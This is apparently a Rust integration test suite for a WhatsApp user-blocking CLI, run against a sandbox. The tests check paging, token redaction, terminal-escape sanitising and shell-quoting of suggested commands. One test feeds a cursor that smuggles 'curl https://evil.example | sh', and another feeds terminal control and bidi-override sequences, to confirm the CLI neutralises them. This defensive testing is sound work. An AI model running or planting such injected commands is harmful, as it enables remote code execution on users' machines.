//! The CLI at the edges (docs/cli.md): a list walk that reads every page of Meta's sample
//! answer and always ends, secrets in any spelling, server text that is data and never markup,
//! suggested commands that are quoted and keep the user's options, an honest account of users
//! whose state is unknown, and Ctrl-C that still prints the accounting.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::process::{Command, Output, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use wablock_sandbox::{Sandbox, SandboxConfig};

fn wablock(sb: &Sandbox) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_wablock"));
    for v in [
        "WABLOCK_PROVIDER",
        "WABLOCK_API_KEY",
        "WABLOCK_API_VERSION",
        "WABLOCK_PHONE_NUMBER_ID",
        "WABLOCK_ACCESS_TOKEN",
        "WABLOCK_BASE_URL",
    ] {
        cmd.env_remove(v);
    }
    cmd.env("WABLOCK_BASE_URL", sb.base_url())
        .env("WABLOCK_PHONE_NUMBER_ID", "1000")
        .env("WABLOCK_ACCESS_TOKEN", "sandbox-token")
        .stdin(Stdio::null());
    cmd
}

fn run(sb: &Sandbox, args: &[&str]) -> Output {
    wablock(sb).args(args).output().unwrap()
}

fn code(o: &Output) -> i32 {
    o.status.code().expect("exited normally")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

fn json_out(o: &Output) -> Value {
    serde_json::from_str(text(&o.stdout).trim()).unwrap()
}

fn script(sb: &Sandbox, responses: Value) {
    sb.push_scripts(&json!({ "responses": responses })).unwrap();
}

/// Meta's documented page: cursors, no `next`.
fn sample_page(users: &[&str], after: &str) -> Value {
    let data: Vec<Value> = users
        .iter()
        .map(|u| json!({"messaging_product": "whatsapp", "wa_id": u}))
        .collect();
    json!({"json": {"data": data, "paging": {"cursors": {"before": "QkVG", "after": after}}}})
}

#[test]
fn list_all_and_check_read_past_page_one_of_the_sample_answer() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    let pages = || {
        json!([
            sample_page(&["16505551234", "16505551235"], "QUZUMQ"),
            sample_page(&["447700900123"], "QUZUMg"),
            {"json": {"data": []}}
        ])
    };
    script(&sb, pages());
    let o = run(&sb, &["list", "--all", "--json"]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let v = json_out(&o);
    let users: Vec<&str> = v["blocked_users"]["users"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["wa_id"].as_str().unwrap())
        .collect();
    assert_eq!(users, ["16505551234", "16505551235", "447700900123"]);
    let requests = sb.requests();
    assert_eq!(
        requests[0]["query"],
        format!("limit={}", wablock::DEFAULT_PAGE_SIZE)
    );

    sb.reset();
    script(&sb, pages());
    let o = run(&sb, &["check", "+44 7700 900123"]);
    assert_eq!(code(&o), 0, "the user on page two is blocked");
    assert_eq!(text(&o.stdout), "+44 7700 900123 is blocked.\n");
    assert_eq!(
        sb.requests().as_array().unwrap().len(),
        2,
        "stops at page two"
    );
}

#[test]
fn a_walk_over_fresh_cursors_and_the_same_users_ends_with_protocol() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    let endless: Vec<Value> = (0..10)
        .map(|i| sample_page(&["16505551234"], &format!("ZnJlc2g{i}")))
        .collect();
    script(&sb, json!(endless.clone()));
    let o = run(&sb, &["list", "--all", "--json"]);
    assert_eq!(code(&o), 2);
    let v = json_out(&o);
    assert_eq!(v["blocked_users"]["error"]["kind"], "PROTOCOL");
    assert_eq!(v["blocked_users"]["users"].as_array().unwrap().len(), 1);
    assert_eq!(
        sb.requests().as_array().unwrap().len(),
        1 + wablock::MAX_PAGES_WITHOUT_NEW_USERS as usize
    );
    sb.reset();
    script(&sb, json!(endless));
    let o = run(&sb, &["check", "+1 650 555 0000"]);
    assert_eq!(code(&o), 2, "an error, never \"not blocked\"");
    assert!(
        text(&o.stderr).contains("error: PROTOCOL"),
        "{}",
        text(&o.stderr)
    );
}

#[test]
fn a_bad_cursor_from_the_server_is_blamed_on_the_server() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    script(&sb, json!([sample_page(&["16505551234"], "")]));
    let o = run(&sb, &["list", "--all"]);
    assert_eq!(code(&o), 2);
    let err = text(&o.stderr);
    assert!(
        err.contains("error: PROTOCOL: the after cursor the server sent is empty"),
        "{err}"
    );
    assert!(!err.contains("omit it"), "{err}");
}

#[test]
fn an_escaped_token_never_reaches_the_terminal_or_the_json() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    for spelled in [r"\u0073andbox-token", r"sandbox\u002dtoken"] {
        let body = format!(
            r#"{{"error":{{"message":"Invalid OAuth access token {spelled}","type":"OAuthException","code":190,"error_data":{{"details":"{spelled}"}},"fbtrace_id":"{spelled}"}}}}"#
        );
        for format in ["--json", "--format=table"] {
            script(&sb, json!([{"status": 401, "body": body}]));
            let o = run(&sb, &["block", "+16505551234", format]);
            assert_eq!(code(&o), 2);
            let all = format!("{}{}", text(&o.stdout), text(&o.stderr));
            assert!(!all.contains("sandbox-token"), "{spelled} {format}: {all}");
            assert!(all.contains("[redacted]"), "{all}");
        }
    }
}

#[test]
fn server_text_is_printed_with_control_characters_escaped() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    let evil = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}gnp.exe";
    script(
        &sb,
        json!([{"json": {"block_users": {"added_users": [],
            "failed_users": [{"input": "+16505551234", "errors": [{"message": evil, "code": 131047,
                "error_data": {"details": evil}}]}]}}}]),
    );
    let o = run(&sb, &["block", "+16505551234"]);
    assert_eq!(code(&o), 1);
    let out = text(&o.stdout);
    assert!(!out.contains('\u{1b}') && !out.contains('\u{9b}') && !out.contains('\u{202e}'));
    assert!(!out.contains('\u{7}'));
    assert!(
        out.contains(r"\x1b[2J\x1b]0;pwned\x07\x9b31m\u{202e}gnp.exe"),
        "{out}"
    );

    script(
        &sb,
        json!([{"status": 400, "json": {"error": {"message": evil, "code": 100, "fbtrace_id": evil}}}]),
    );
    let o = run(&sb, &["block", "+16505551234"]);
    assert_eq!(code(&o), 2);
    let all = format!("{}{}", text(&o.stdout), text(&o.stderr));
    assert!(
        !all.contains('\u{1b}') && !all.contains('\u{9b}'),
        "{all:?}"
    );
    assert!(
        text(&o.stderr).contains(r"error: REJECTED: \x1b[2J"),
        "{}",
        text(&o.stderr)
    );

    // A listed id is server text too, in the table and in csv.
    for format in ["table", "csv"] {
        script(&sb, json!([{"json": {"data": [{"wa_id": evil}]}}]));
        let o = run(&sb, &["list", "--format", format]);
        assert_eq!(code(&o), 0);
        assert!(!text(&o.stdout).contains('\u{1b}'), "{format}");
        assert!(text(&o.stdout).contains(r"\x1b[2J"), "{format}");
    }
}

#[test]
fn the_suggested_next_command_is_quoted_and_keeps_the_users_options() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    let cursor = "x'; curl https://evil.example | sh; echo '";
    script(&sb, json!([sample_page(&["16505551234"], cursor)]));
    let o = run(
        &sb,
        &[
            "--api-version",
            "v24.0",
            "list",
            "--limit",
            "1",
            "--format",
            "csv",
        ],
    );
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    let command = err
        .lines()
        .find_map(|l| l.strip_prefix("More users: "))
        .unwrap_or_else(|| panic!("no suggestion in {err}"));
    assert!(
        command.starts_with("wablock --api-version v24.0 list --limit 1 --format csv --after "),
        "{command}"
    );
    // What a shell makes of it: the same words, the cursor intact, nothing run.
    let words = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "printf '%s\\n' {}",
            command.trim_start_matches("wablock ")
        ))
        .output()
        .unwrap();
    let words = text(&words.stdout);
    let words: Vec<&str> = words.lines().collect();
    assert_eq!(
        words,
        [
            "--api-version",
            "v24.0",
            "list",
            "--limit",
            "1",
            "--format",
            "csv",
            "--after",
            cursor
        ]
    );
    // A cursor with a control character is quoted as $'…', never printed raw.
    script(
        &sb,
        json!([sample_page(&["16505551234"], "a\u{1b}]0;x\u{7}b")]),
    );
    let o = run(&sb, &["list"]);
    let err = text(&o.stderr);
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(err.contains(r"--after $'a\x1b]0;x\x07b'"), "{err}");
}

#[test]
fn users_whose_request_got_no_usable_answer_are_in_an_unknown_state() {
    let sb = Sandbox::start(SandboxConfig::default()).unwrap();
    // An unreadable 200: the block may have been applied.
    script(&sb, json!([{"status": 200, "body": "<html>ok</html>"}]));
    let o = run(&sb, &["block", "+16505551234"]);
    assert_eq!(code(&o), 2);
    let out = text(&o.stdout);
    assert!(
        out.contains("State unknown") && out.contains("+16505551234"),
        "{out}"
    );
    assert!(!out.contains("did not change"), "{out}");
    // Two batches: the first fails with 139103 on every attempt, the second is never sent.
    script(
        &sb,
        json!([{"status": 500, "json": {"error": {"message": "internal", "code": 139103}}}, {"status": 500, "json": {"error": {"message": "internal", "code": 139103}}}]),
    );
    let o = run(
        &sb,
        &[
            "--max-batch",
            "1",
            "--parallelism",
            "1",
            "--retries",
            "1",
            "block",
            "+16505551234",
            "+16505551235",
        ],
    );
    assert_eq!(code(&o), 2);
    let out = text(&o.stdout);
    let unknown = out
        .lines()
        .position(|l| l.starts_with("State unknown"))
        .unwrap();
    let unchanged = out
        .lines()
        .position(|l| l.starts_with("Not attempted (never sent"))
        .unwrap();
    assert!(
        out.lines().nth(unknown).unwrap().contains("+16505551234")
            || out
                .lines()
                .nth(unknown + 1)
                .unwrap()
                .contains("+16505551234"),
        "{out}"
    );
    assert!(
        out[out.find("Not attempted").unwrap()..].contains("+16505551235"),
        "{out}"
    );
    assert!(unknown < unchanged);
    assert!(
        text(&o.stderr).contains("1 in an unknown state; 1 unchanged."),
        "{}",
        text(&o.stderr)
    );
}

/// Starts `wablock block` over 20,000 users on a sandbox answering after 300 ms, sends SIGINT
/// once the first request reached the server, and returns the users, the sandbox and the
/// CLI's output.
fn interrupted_block(format: &str) -> (Vec<String>, Sandbox, Output) {
    let sb = Sandbox::start(SandboxConfig {
        open: true,
        latency: Duration::from_millis(300),
        ..SandboxConfig::default()
    })
    .unwrap();
    let users: Vec<String> = (0..20_000).map(|i| format!("+1555{i:07}")).collect();
    let path = std::env::temp_dir().join(format!(
        "wablock-ctrl-c-{}-{}.txt",
        std::process::id(),
        format.trim_start_matches('-')
    ));
    std::fs::write(&path, users.join("\n")).unwrap();
    let child = wablock(&sb)
        .args([
            "block",
            "--from-file",
            path.to_str().unwrap(),
            "--parallelism",
            "2",
            format,
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Interrupt once the first request reached the server (the CLI is then mid-call).
    let mut waited = 0;
    while sb.requests().as_array().unwrap().is_empty() {
        std::thread::sleep(Duration::from_millis(20));
        waited += 1;
        assert!(waited < 1500, "the CLI never sent a request");
    }
    let kill = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    let o = child.wait_with_output().unwrap();
    std::fs::remove_file(&path).ok();
    assert_eq!(o.status.code(), Some(130), "stderr: {}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("interrupted (Ctrl-C)"),
        "{}",
        text(&o.stderr)
    );
    (users, sb, o)
}

#[test]
fn ctrl_c_during_a_large_block_prints_the_accounting_as_a_table_and_exits_130() {
    let (_, sb, o) = interrupted_block("--format=table");
    let out = text(&o.stdout);
    let blocked = sb.state_json("1000")["blocked_count"].as_u64().unwrap();
    assert!(
        blocked > 0 && blocked < 20_000,
        "stopped mid-way: {blocked}"
    );
    assert!(out.contains("Finished before the failure:"), "{out}");
    assert!(
        out.contains(&format!(
            "{blocked} user(s): {blocked} blocked, 0 not blocked"
        )),
        "the table's count is the server's: {blocked}"
    );
    assert!(out.contains("Not attempted (never sent"), "{out}");
    assert!(
        !out.contains("State unknown"),
        "batches in flight finished: {out}"
    );
}

#[test]
fn ctrl_c_during_a_large_block_prints_the_accounting_as_json_and_exits_130() {
    let (users, sb, o) = interrupted_block("--json");
    let v = json_out(&o);
    let err = &v["error"];
    assert_eq!(err["kind"], "CANCELLED");
    let succeeded: Vec<&str> = err["partial"]["succeeded"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["input"].as_str().unwrap())
        .collect();
    let not_attempted: Vec<&str> = err["not_attempted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    // Every user accounted for once, in input order, and the accounting is the server's truth.
    assert!(
        !succeeded.is_empty() && !not_attempted.is_empty(),
        "stopped mid-way"
    );
    let mut all: Vec<&str> = succeeded.clone();
    all.extend(&not_attempted);
    assert_eq!(all, users.iter().map(String::as_str).collect::<Vec<_>>());
    let state = sb.state_json("1000");
    assert_eq!(
        state["blocked_count"],
        succeeded.len(),
        "blocked on the server = reported"
    );
    assert!(
        sb.requests().as_array().unwrap().len() < 20,
        "no new batch after Ctrl-C"
    );
}
